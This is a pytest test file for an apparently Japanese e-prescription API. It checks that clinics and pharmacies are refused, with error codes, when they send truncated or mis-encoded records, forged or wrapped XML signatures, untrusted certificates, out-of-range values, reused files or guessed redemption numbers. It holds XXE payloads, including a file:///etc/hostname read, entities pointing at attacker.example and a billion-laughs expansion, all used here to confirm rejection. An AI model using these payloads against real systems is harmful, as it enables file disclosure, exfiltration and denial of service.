"""What nobody should send, by name: each is refused at the door with its reason, and nothing is half written.

The names are those of the issue's list. A row's code is the answer's; with it stand the codes of the fields.
"""

import json
from collections.abc import Callable
from dataclasses import replace
from datetime import date, timedelta
from typing import Any

import pytest
from lxml import etree

from eprescription.gateways.sandbox_signatures import sign_bytes, sign_envelope
from eprescription.gateways.signing.envelopes import sealed
from eprescription.rules.document import Form
from eprescription.rules.json_form.writing import as_json
from platform_site import clock
from platform_site.models import Person
from platform_site.periods import jst_day
from tests.eprescription import hostile_envelopes as hostile
from tests.eprescription.api_calls import (
    API,
    paper_body,
    put,
    receive,
    redeem,
    redemption_of,
    register,
    registration,
    result_body,
    slip,
    text_of,
)
from tests.eprescription.counted import written
from tests.eprescription.pharmacies import BLUE, GREEN, given
from tests.eprescription.signers_by_hand import DOCTOR as STRANGER
from tests.eprescription.signers_by_hand import ISSUING, PHARMACIST, chain
from tests.support import rx
from tests.support.audit_lines import lines_of
from tests.support.callers import Caller
from tests.support.scenarios.rx_records import as_signed_json, changed, filed, good, posted
from tests.support.scenarios.rx_signatures import DAY, issued, signed_by


pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("issuing")]
CLINIC, PHARMACY = Caller(rx.CLINIC), Caller(BLUE)
DOCTOR = "clinic-doctor-1"
BROKEN, UNFIT = "RX-RECORD-BROKEN", "RX-DRUGS"
Send = Callable[[], Any]


def refused(send: Send, code: str, *fields: str) -> None:
    """Have something sent: it is refused by these codes, in words, and every table is as it was."""
    before = written()
    answer = send()
    problem, faults = answer.json(), answer.json().get("errors", [])
    assert 400 <= answer.status_code < 500, answer.content
    assert (problem["code"], {each["code"] for each in faults}) == (code, {*fields})
    assert problem["detail"]
    assert all(each["hint"] and each["pointer"] is not None for each in faults)
    assert written() == before


# What a clinic sends: files.


def lines() -> list[bytes]:
    """Return the lines of a good record file."""
    return good().split(b"\r\n")


def reordered(first: int, second: int) -> bytes:
    """Return a good file with two of its lines exchanged."""
    found = lines()
    found[first], found[second] = found[second], found[first]
    return b"\r\n".join(found)


def envelope() -> bytes:
    """Return a good file as its doctor signed it."""
    return rx.authority().sign_file(DOCTOR, good(), at=clock.now())


def within_the_attackers() -> bytes:
    """Return an envelope of the attacker's that holds the signed one, signature and all."""
    outer = etree.fromstring(envelope())
    outer.remove(hostile.signature(outer))
    etree.SubElement(outer, "Wrapped").append(etree.fromstring(envelope()))
    return etree.tostring(outer)


def with_a_document_type(declared: str, used: str) -> bytes:
    """Return a signed envelope under a document type, with an entity in place of its data."""
    signed = envelope()
    return f"<!DOCTYPE Prescription [{declared}]>".encode() + signed.replace(b"<Data", f"{used}<Data".encode(), 1)


ENTITIES = {
    "a file of the server": '<!ENTITY x SYSTEM "file:///etc/hostname">',
    "another host": '<!ENTITY x SYSTEM "https://attacker.example/x">',
    "a parameter": '<!ENTITY % x SYSTEM "https://attacker.example/x.dtd">',
    "a billion laughs": '<!ENTITY y "haha"><!ENTITY x "&y;&y;&y;&y;&y;&y;&y;&y;">',
}


def foreign(*, form: str = "record_file") -> Any:
    """Send what a doctor of another authority signed."""
    if form == "json":
        content = rx.content_of(rx.document(form=Form.JSON))
        return posted(content, form=form, signature=sign_bytes(content, STRANGER.key, chain(STRANGER, ISSUING)))
    return posted(sign_envelope(sealed(good()), STRANGER.key, chain(STRANGER, ISSUING), at=clock.now()))


# What a clinic sends: JSON.


def json_with(**changes: Any) -> Any:
    """Send a good prescription as JSON with members changed: of the head, or of its only item by `item_…`."""
    value = as_json(rx.document(form=Form.JSON))
    (item,) = value["rps"][0]["items"]
    for name, into in changes.items():
        whole = item if name.startswith("item_") else value["rps"][0] if name.startswith("rp_") else value
        whole[name.removeprefix("item_").removeprefix("rp_")] = into
    return as_signed_json(value)


def json_over_other_bytes() -> Any:
    """Send JSON with the signature of another document."""
    content = rx.content_of(rx.document(form=Form.JSON))
    signature = rx.authority().sign_json(DOCTOR, content)
    return posted(content.replace(b'"1"', b'"2"', 1), form="json", signature=signature)


def many(count: int, *, of: int = 1, form: Form = Form.RECORD_FILE) -> Any:
    """Send a prescription of so many items, so many `of` them in each RP."""
    (rp,), item = rx.rps(rx.AMLODIPINE), rx.item()
    places = [(place // of + 1, place % of + 1) for place in range(count)]
    items = [replace(item, rp_number=number, order=order) for number, order in places]
    rps = tuple(
        replace(rp, number=number, items=tuple(each for each in items if each.rp_number == number))
        for number in dict.fromkeys(number for number, _ in places)
    )
    body = registration(ref=rx.visit(), rps=rps, form=form)
    return CLINIC.post(f"{API}/prescriptions", body)


def day(days: int) -> str:
    """Return the day so many days from now as a record writes it."""
    return f"{jst_day(clock.now()) + timedelta(days=days):%Y%m%d}"


def of(ref: str, **changes: Any) -> Any:
    """Send a prescription of P001's numbers for the person behind a handle."""
    return CLINIC.post(f"{API}/prescriptions", registration(ref=ref, **changes))


def issued_in(year: int, **changes: Any) -> Any:
    """Send a prescription that is well written but for its year; the elderly are asked for their share."""
    insurance = replace(rx.document().insurance, burden="5")
    return of(rx.visit(), issued_on=date(year, 12, 30), insurance=insurance, **changes)


def dose(text: str) -> Send:
    """Return what sends a file with a dose."""
    return lambda: changed("201,1,1", _with_dose(text))


def _with_dose(text: str) -> str:
    (line,) = (each.decode("cp932") for each in lines() if each.startswith(b"201,1,1"))
    cells = line.split(",")
    cells[7] = text
    return ",".join(cells)


AMOUNTS = ["0", "-1", "NaN", "1000000000"]
DAYS = {"0": "RX-RECORD-VALUE", "-1": "RX-RECORD-TYPE", "NaN": "RX-RECORD-TYPE", "1000000000": "RX-RECORD-LENGTH"}
"""What is wrong with the same amounts as a number of days."""

SENT: list[tuple[str, Send, str, tuple[str, ...]]] = [
    ("truncated: the last byte", lambda: filed(good()[:-1]), BROKEN, ("RX-RECORD-TRUNCATED",)),
    ("truncated: in the middle", lambda: filed(good()[: len(good()) // 2]), BROKEN, ("RX-RECORD-TRUNCATED",)),
    ("truncated: the medicine", lambda: changed("201,", ""), BROKEN, ("RX-RECORD-MISSING",)),
    ("truncated: nothing at all", lambda: filed(b""), BROKEN, ("RX-RECORD-TRUNCATED",)),
    ("re-ordered: in the head", lambda: filed(reordered(2, 3)), BROKEN, ("RX-RECORD-ORDER",)),
    ("re-ordered: the header", lambda: filed(reordered(0, 1)), BROKEN, ("RX-RECORD-HEADER",)),
    ("wrong bytes for CP932: half a character", lambda: filed(good().replace(rx.AMLODIPINE.encode("cp932"), b"\x81")),
     BROKEN, ("RX-RECORD-ENCODING",)),
    ("wrong bytes for CP932: UTF-8", lambda: filed(good().decode("cp932").encode()), BROKEN, ("RX-RECORD-ENCODING",)),
    ("wrong bytes for CP932: UTF-16", lambda: filed(good().decode("cp932").encode("utf-16")), BROKEN,
     ("RX-RECORD-ENCODING",)),
    ("a signature over other bytes: another file",
     lambda: posted(hostile.changed(lambda root: setattr(hostile.data(root), "text", hostile.OTHER), envelope())),
     "RX-SIGNATURE-BROKEN", ()),
    ("a signature over other bytes: another kind",
     lambda: posted(envelope().replace(b">electronic<", b">in_house<")), "RX-SIGNATURE-BROKEN", ()),
    ("a signature over other bytes: JSON", json_over_other_bytes, "RX-SIGNATURE-BROKEN", ()),
    ("a wrapped signature: within the attacker's", lambda: posted(within_the_attackers()), "RX-SIGNATURE-WRAPPED", ()),
    ("a wrapped signature: one level down", lambda: posted(hostile.changed(hostile.moved_into_a_wrapper, envelope())),
     "RX-SIGNATURE-WRAPPED", ()),
    ("a wrapped signature: before what it signs",
     lambda: posted(hostile.changed(hostile.moved_to_the_front, envelope())), "RX-SIGNATURE-WRAPPED", ()),
    ("a wrapped signature: the first file is the attacker's",
     lambda: posted(hostile.changed(hostile.first_is_the_attackers, envelope())), "RX-SIGNATURE-BROKEN", ()),
    ("an expired certificate", lambda: signed_by(issued("late-doctor", begins=-3 * DAY, ends=-DAY)),
     "RX-SIGNER-EXPIRED", ()),
    ("a certificate not yet in force", lambda: signed_by(issued("early-doctor", begins=DAY, ends=3 * DAY)),
     "RX-SIGNER-EXPIRED", ()),
    ("a foreign certificate", foreign, "RX-SIGNER-UNTRUSTED", ()),
    ("a foreign certificate: JSON", lambda: foreign(form="json"), "RX-SIGNER-UNTRUSTED", ()),
    ("another patient's number", lambda: of(rx.visit(person="P003")), "RX-PATIENT-NOT-IN-DOCUMENT", ()),
    ("another patient's number: a handle of another clinic", lambda: of(rx.visit(rx.OTHER)), "ELIG-NO-CHECK-IN", ()),
    ("another patient's number: a handle of nobody", lambda: of("A" * 40), "ELIG-NO-CHECK-IN", ()),
    *((f"a quantity of {text}: the dose", dose(text), BROKEN, ("RX-RECORD-VALUE",)) for text in AMOUNTS),
    *((f"a quantity of {text}: the dose in JSON", lambda text=text: json_with(item_dose=text), "RX-JSON-BROKEN",
       ("RX-RECORD-VALUE",)) for text in AMOUNTS),
    *((f"a quantity of {text}: the days", lambda text=text: changed("101,", f"101,1,1,,{text}"), BROKEN, (code,))
      for text, code in DAYS.items()),
    *((f"a quantity of {text}: the days in JSON", lambda text=text: json_with(rp_quantity=int(text)),
       "RX-JSON-BROKEN", (code,)) for text, code in DAYS.items() if text != "NaN"),
    ("a quantity of NaN: the days in JSON", lambda: json_with(rp_quantity=float("nan")), "RX-JSON-BROKEN",
     ("VAL-FORMAT",)),
    ("a date before birth", lambda: changed("51,", "51,19800101"), BROKEN, ("RX-RECORD-RULE",)),
    ("a date in 2099: of issue", lambda: issued_in(2099), UNFIT, ("RX-VALIDITY",)),
    ("a date in 2099: of issue in JSON", lambda: issued_in(2099, form=Form.JSON), UNFIT, ("RX-VALIDITY",)),
    ("a date in 2099: of birth", lambda: changed("13,", "13,20991231"), BROKEN, ("RX-RECORD-RULE",)),
    ("a date in 2099: the last day", lambda: changed("51,", f"51,{day(0)}\r\n52,20991231"), BROKEN,
     ("RX-RECORD-RULE",)),
    ("a date that is long over", lambda: issued_in(1999), UNFIT, ("RX-VALIDITY",)),
    ("a date that is over", lambda: changed("51,", f"51,{day(-9)}"), UNFIT, ("RX-VALIDITY",)),
    ("a refill beyond 3", lambda: changed("101,", "64,4\r\n101,1,1,,14"), BROKEN, ("RX-RECORD-VALUE",)),
    ("a refill beyond 3: JSON", lambda: json_with(refills=4), "RX-JSON-BROKEN", ("RX-RECORD-VALUE",)),
    ("500 items", lambda: many(500), BROKEN, ("RX-RECORD-LENGTH",)),
    ("500 items: JSON", lambda: many(500, form=Form.JSON), "RX-JSON-BROKEN", ("RX-RECORD-LENGTH",)),
    ("one item too many", lambda: many(61, of=9), BROKEN, ("RX-RECORD-LENGTH",)),
    ("one item too many: JSON", lambda: many(61, of=9, form=Form.JSON), "RX-JSON-BROKEN", ("RX-RECORD-LENGTH",)),
]  # fmt: skip


@pytest.mark.parametrize(("send", "code", "fields"), [pytest.param(*row, id=name) for name, *row in SENT])
def test_a_clinic_that_sends_it_is_told_why_and_nothing_is_written(send: Send, code: str, fields: tuple[str, ...]):
    refused(send, code, *fields)


def question(**changes: Any) -> Any:
    """Ask what a medicine would meet, with members changed: of the question, or of its only item by `item_…`."""
    item = {"code": {"system": "receipt", "value": "620007853"}, "dosage_form": "internal", "quantity": 14}
    item |= {name.removeprefix("item_"): into for name, into in changes.items() if name.startswith("item_")}
    head = {name: into for name, into in changes.items() if not name.startswith("item_")}
    return CLINIC.post(f"{API}/checks", {"patient_ref": rx.visit(), "items": [item], **head})


@pytest.mark.parametrize("changes", [
    *({"item_dose": text} for text in AMOUNTS), *({"item_quantity": number} for number in (0, -1, 10**9)),
    {"item_quantity": float("nan")}, {"on": "1980-01-01"}, {"on": "2099-12-31"}, {"items": [{}] * 500}, {"items": []},
], ids=str)  # fmt: skip
def test_a_question_of_it_is_refused_by_its_members(changes: dict[str, Any]):
    before = written()
    answer = question(**changes)
    assert (answer.status_code, written()) == (400, before)
    # NaN is no JSON at all; the rest is told by its member.
    assert answer.json().get("errors") or answer.json()["code"] == "VAL-JSON"


@pytest.mark.parametrize("declared", ENTITIES.values(), ids=ENTITIES)
@pytest.mark.parametrize("used", ["&x;", ""], ids=["used", "declared only"])
def test_external_entities_are_refused_before_they_are_read(declared: str, used: str):
    refused(lambda: posted(with_a_document_type(declared, used)), "RX-SIGNATURE-BROKEN")


class TestTheSameFileTwice:
    """Signed bytes make one prescription for ever (I04-2)."""

    def test_the_very_same_request_body(self):
        body = registration(ref=rx.visit())
        assert CLINIC.post(f"{API}/prescriptions", body).status_code == 201
        refused(lambda: CLINIC.post(f"{API}/prescriptions", body), "RX-USED-BEFORE")

    def test_the_same_file_signed_anew(self):
        assert filed(good()).status_code == 201
        refused(lambda: filed(good()), "RX-USED-BEFORE")

    def test_even_after_it_was_cancelled(self):
        told = filed(good()).json()
        CLINIC.post(f"{API}/prescriptions/{told['prescription_id']}/cancellation", {"reason": "処方の見直し"})
        refused(lambda: filed(good()), "RX-USED-BEFORE")


class TestAPharmacyThatGuesses:
    """引換番号: one answer for whatever is wrong, and after a few of them none at all (I04-3)."""

    @pytest.fixture
    def told(self):
        """What the clinic was answered about P001's prescription."""
        return register().json()

    @pytest.mark.parametrize(
        "changed",
        [{"number": "9999"}, {"symbol": "架空９９"}, {"branch": "09"}, {"insurer_number": "138057"}, {}],
        ids=["number", "symbol", "branch", "insurer", "redemption number"],
    )
    def test_it_is_told_the_same_whichever_of_the_numbers_is_wrong(self, told, changed):
        wrong = changed or {"redemption_number": f"{(int(told['redemption_number']) + 1) % 1_000_000:06d}"}
        refused(lambda: redeem(told, **wrong), "RX-NOT-REDEEMABLE")

    def test_a_prescription_that_is_there_is_told_like_one_that_never_was(self, told):
        there = redeem(told, number="9999").json()
        never = redeem({"redemption_number": "000000"}, number="9998").json()
        assert _told(there) == _told(never)

    def test_after_a_few_tries_it_waits_and_nobody_else_does(self, told, settings):
        settings.WRONG_TRIES_PER_TARGET = 3
        wrong = f"{(int(told['redemption_number']) + 1) % 1_000_000:06d}"
        answers = [redeem(told, redemption_number=wrong).status_code for _ in range(4)]
        assert answers == [404, 404, 404, 429]
        before = written()
        blocked = redeem(told)
        assert (blocked.status_code, int(blocked["Retry-After"]) > 0) == (429, True)
        assert written() == before
        assert redeem(told, GREEN).status_code == 201

    def test_a_try_that_missed_stands_in_nobodys_trail(self, told):
        everybody = list(Person.objects.values_list("pk", flat=True))
        before = len(lines_of(everybody))
        redeem(told, number="9999")
        assert len(lines_of(everybody)) == before


# What a pharmacy sends.


def in_hand() -> str:
    """Have the pharmacy hold a prescription of amlodipine; return its name."""
    told = register().json()
    redeem(told)
    receive(told["prescription_id"])
    return str(told["prescription_id"])


def result(uid: str, *items: dict[str, Any], **changes: Any) -> Any:
    """Register a result."""
    return dispensed(uid, result_body(uid, *items, **changes))


def dispensed(uid: str, body: dict[str, Any]) -> Any:
    """Register the result that a body is."""
    return PHARMACY.post(f"{API}/prescriptions/{uid}/dispensing", body)


def signed_by_a_stranger(uid: str) -> dict[str, Any]:
    """Return the body of a result that a pharmacist of another authority signed."""
    body = result_body(uid)
    content = json.dumps({"facility_code": PHARMACY.code}).encode()
    signature = sign_bytes(content, PHARMACIST.key, chain(PHARMACIST, ISSUING))
    return {**body, "document": text_of(content), "signature": signature}


def over_other_bytes(uid: str) -> dict[str, Any]:
    """Return the body of a result with the signature of another."""
    return {**result_body(uid), "document": result_body(uid, given(quantity="7"))["document"]}


RESULTS: list[tuple[str, Callable[[str], Any], str, tuple[str, ...]]] = [
    *((f"a quantity of {text}", lambda uid, text=text: result(uid, given(quantity=text)), "RX-JSON-BROKEN",
       ("VAL-FORMAT",)) for text in ("-1", "NaN", "1000000000")),
    ("a quantity of 0", lambda uid: result(uid, given(quantity="0")), "RX-DISPENSING", ("RX-DISPENSING-QUANTITY",)),
    ("a date in 2099", lambda uid: result(uid, dispensed_on="2099-12-31"), "RX-DISPENSING", ("VAL-DATE-FUTURE",)),
    ("a date before birth", lambda uid: result(uid, dispensed_on="1980-01-01"), "RX-DISPENSING", ("VAL-FORMAT",)),
    ("500 items", lambda uid: result(uid, *[given()] * 500), "RX-JSON-BROKEN", ("VAL-LENGTH",)),
    ("a signature over other bytes", lambda uid: dispensed(uid, over_other_bytes(uid)), "RX-SIGNATURE-BROKEN", ()),
    ("a foreign certificate", lambda uid: dispensed(uid, signed_by_a_stranger(uid)), "RX-SIGNER-UNTRUSTED", ()),
    ("another prescription's number", lambda uid: dispensed(uid, result_body("0" * 8 + uid[8:])), "RX-DISPENSING",
     ("VAL-FORMAT",)),
]  # fmt: skip


@pytest.mark.parametrize(("send", "code", "fields"), [pytest.param(*row, id=name) for name, *row in RESULTS])
def test_a_pharmacy_that_sends_it_is_told_why_and_nothing_is_written(send, code, fields):
    uid = in_hand()
    refused(lambda: send(uid), code, *fields)


def test_the_same_signed_result_again_is_refused():
    uid = in_hand()
    body = result_body(uid)
    assert dispensed(uid, body).status_code == 201
    path, named = f"{API}/prescriptions/{uid}/dispensing", {"If-Match": '"1"'}
    refused(lambda: put(PHARMACY, path, body, **named), "RX-USED-BEFORE")


@pytest.mark.parametrize(
    ("content", "fields"),
    [(lambda: slip()[:-20], ("RX-RECORD-TRUNCATED",)), (lambda: slip().replace(b"201,1,1", b"201,9,1"),
     ("RX-RECORD-ORDER",)), (lambda: slip().decode("cp932").encode(), ("RX-RECORD-ENCODING",))],
    ids=["truncated", "re-ordered", "UTF-8"],
)  # fmt: skip
def test_a_slip_that_was_scanned_wrong_is_refused(content, fields):
    body = paper_body(rx.visit(BLUE), content=content())
    refused(lambda: PHARMACY.post(f"{API}/paper-dispensings", body), BROKEN, *fields)


def test_a_number_that_is_none_is_told_by_its_member():
    body = {**redemption_of({"redemption_number": "12345６"})}
    answer = PHARMACY.post(f"{API}/redemptions", body)
    assert [each["pointer"] for each in answer.json()["errors"]] == ["/redemption_number"]


def _told(problem: dict[str, Any]) -> dict[str, Any]:
    """Return a refusal without what names the request."""
    return {name: value for name, value in problem.items() if name not in ("request_id", "instance")}


def test_a_question_about_codes_that_may_not_be_prescribed_is_told_which_they_are():
    items = [
        {"code": {"system": "receipt", "value": value}, "dosage_form": "internal", "quantity": 14}
        for value in ("620007853", "699999999", "611111111")
    ]
    answer = CLINIC.post(f"{API}/checks", {"patient_ref": rx.visit(), "items": items})
    told = [(each["code"], each["pointer"]) for each in answer.json()["errors"]]
    assert (answer.json()["code"], told) == (
        UNFIT, [("RX-DRUG-DUMMY", "/items/1/code"), ("RX-DRUG-UNKNOWN", "/items/2/code")],
    )  # fmt: skip
